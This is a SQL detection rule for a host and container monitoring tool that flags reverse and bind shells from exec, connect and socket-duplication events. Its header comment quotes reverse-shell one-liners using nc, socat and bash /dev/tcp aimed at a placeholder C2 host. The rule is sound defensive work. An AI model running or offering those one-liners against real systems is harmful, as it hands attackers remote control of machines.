-- id: reverse-shell
-- severity: critical
-- category: suspicious-network
-- technique: T1059.004
-- falco: Redirect STDOUT/STDIN to Network Connection in Container; Netcat Remote Code Execution in Container
-- description: A shell whose input comes from an outbound connection: a shell exec'd by a process that connected out, or a shell that connected out itself.
--
-- Catches `nc -e /bin/sh`, `socat TCP:C2 EXEC:sh`, `bash -i >& /dev/tcp/C2/P 0>&1`,
-- python/perl `socket; dup2; exec sh` and implants doing the same, on the host and in
-- containers, from three traces of the same act: (1) a process that made a TCP
-- connection to a non-loopback address then exec'd a shell (nc -e, dup2 + exec), (2)
-- a shell whose parent connected out within the 10 s before it started and is not a
-- shell itself (socat, python subprocess), (3) a shell image connecting out itself
-- (/dev/tcp). With 1.2 recordings, a socket duplicated onto stdin/stdout of a shell
-- (socket_events dup_stdio) is the direct evidence; this rule's traces need only
-- exec and connect events.
-- (4) With recorder 1.2 socket events, the act itself: a socket connected to a
-- non-loopback peer duplicated onto stdin, stdout or stderr (dup2/dup3), as Falco's
-- "Redirect STDOUT/STDIN to Network Connection" sees it, when that socket was
-- connected out (its connect recorded) or the process is or becomes a shell (a bind
-- shell: nc -l -e sh). Not an accepted connection put on a server's stdio with no
-- shell (busybox httpd's and inetd's forked handlers do that for every request).
WITH sh AS MATERIALIZED (
  SELECT x.* FROM rx_exec x
  WHERE x.kind = 'exec' AND x.ret = 0 AND (x.prog IN rx_shell OR x.ab IN rx_shell)
),
hit AS (
  -- (1) the same process connected out before exec'ing the shell
  SELECT s.exec_id, k.conn_id, 'exec''d by a process connected to ' AS how
  FROM sh s JOIN rx_conn k ON k.proc_id = s.proc_id AND k.ts <= s.ts AND NOT k.loopback
  UNION ALL
  -- (2) its parent (not a shell) connected out within 10 s before it started
  SELECT s.exec_id, k.conn_id, 'started by a process connected to '
  FROM sh s JOIN processes p ON p.proc_id = s.proc_id
  JOIN rx_conn k ON k.proc_id = p.parent_id AND k.ts <= s.ts AND s.ts - k.ts <= 10000000000 AND NOT k.loopback
  JOIN rx_exec ke ON ke.exec_id = k.exec_id
  WHERE ke.prog NOT IN rx_shell AND ke.ab NOT IN rx_shell
  UNION ALL
  -- (3) a shell image connecting out itself
  SELECT k.exec_id, k.conn_id, 'connected itself to '
  FROM rx_conn k JOIN sh s ON s.exec_id = k.exec_id
  WHERE NOT k.loopback
),
first AS (
  SELECT exec_id, min(conn_id) AS conn_id, how FROM hit GROUP BY exec_id
)
SELECT e.ts, e.host_id, e.container_id, e.proc_id, e.pid, e.start, e.exec_id, f.conn_id,
       'shell ' || e.filename || ' (pid ' || e.pid || ') in ' || COALESCE(c.short_id, 'host') || ' ' || f.how ||
         inet_fmt(k.daddr, k.dport) || ': ' || COALESCE(e.cmdline, '') AS message,
       'e' || e.exec_id AS key
FROM first f
JOIN execs e ON e.exec_id = f.exec_id
JOIN connections k ON k.conn_id = f.conn_id
LEFT JOIN containers c ON c.container_id = e.container_id
UNION ALL
SELECT s.ts, s.host_id, s.container_id, s.proc_id, s.pid, s.start, s.exec_id, s.conn_id,
       COALESCE(x.prog, s.comm, '?') || ' (pid ' || s.pid || ') in ' || COALESCE(c.short_id, 'host') ||
         ' put a socket connected to ' || COALESCE(inet_fmt(s.daddr, s.dport), '?') || ' on fd ' || s.fd AS message,
       'so' || s.event_id AS key
FROM socket_events s
LEFT JOIN rx_names x ON x.exec_id = s.exec_id
LEFT JOIN containers c ON c.container_id = s.container_id
WHERE s.op = 'dup_stdio' AND s.ret >= 0 AND s.daddr IS NOT NULL
  AND NOT (s.daddr GLOB '127.*' OR s.daddr = '::1' OR s.daddr GLOB '::ffff:127.*')
  AND (s.conn_id IS NOT NULL OR x.prog IN rx_shell OR x.ab IN rx_shell
       OR EXISTS (SELECT 1 FROM sh WHERE sh.proc_id = s.proc_id AND sh.ts >= s.ts));
